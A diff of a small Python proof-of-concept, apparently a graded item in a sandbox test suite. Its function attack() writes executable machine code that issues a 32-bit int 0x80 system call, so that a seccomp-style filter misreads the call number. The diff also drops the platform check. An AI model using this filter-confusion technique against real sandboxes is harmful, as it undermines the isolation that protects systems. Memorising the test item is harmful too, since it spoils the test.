@@ -1,15 +1,14 @@
 # Makes 32-bit system calls, whose numbers mean other calls than the filter thinks.
 # exercise: softmax
 # worth: 96
+# machine: x86_64
+# proof: Bad system call
 
 import ctypes
 import mmap
-import platform
 
 
 def attack():
-    if platform.machine() != "x86_64":
-        raise OSError("only there")
     memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
     # mov eax, 20 (getpid of i386); int 0x80; ret
     memory.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
